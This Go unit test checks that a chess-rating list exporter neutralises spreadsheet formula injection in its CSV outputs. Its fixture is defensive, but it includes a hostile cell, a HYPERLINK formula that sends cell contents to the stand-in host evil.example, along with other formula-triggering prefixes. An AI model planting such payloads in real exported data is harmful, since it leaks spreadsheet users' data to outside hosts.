package lists

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"omologa/internal/fsi"
	"omologa/internal/fsi/registers"
)

// Attack 4 of issue 22: a register's "=HYPERLINK(…)" reached the public
// lista.csv as a formula. Every cell beginning =, +, -, @, tab or CR is
// now written as text; numbers stay numbers.
func TestCSVIsSafeForSpreadsheets(t *testing.T) {
	hostile := []registers.Player{
		{FSIID: "1", Surname: `=HYPERLINK("http://evil.example/?"&A1,"Rossi")`, Name: "+Mario", Province: "@MI", EloRapid: 1500, EloItalia: 1500,
			Category: "-1N", Extra: map[string]string{"listed": "1"}},
		{FSIID: "2", Surname: "\tBianchi", Name: "\rLuca", Province: "NO", EloRapid: 1400, EloItalia: 1400, Extra: map[string]string{"listed": "1"}},
	}
	for _, kind := range []fsi.Kind{"standard", "rapid"} {
		entries := Build(&registers.Players{Rows: hostile}, kind)
		for name, write := range map[string]func(*bytes.Buffer) error{
			"list.csv":  func(b *bytes.Buffer) error { return WriteCSV(b, kind, entries) },
			"lista.csv": func(b *bytes.Buffer) error { return WriteExcelCSV(b, kind, entries) },
		} {
			var buf bytes.Buffer
			if err := write(&buf); err != nil {
				t.Fatal(err)
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf"))))
			if name == "lista.csv" {
				r.Comma = ';'
			}
			recs, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			cells := 0
			for _, rec := range recs[1:] {
				for _, c := range rec {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s %s: cell %q begins a formula", kind, name, c)
					}
					if strings.HasPrefix(c, "'") {
						cells++
					}
				}
			}
			if cells < 3 {
				t.Errorf("%s %s: %d cells neutralised: %q", kind, name, cells, buf.String())
			}
		}
	}
}
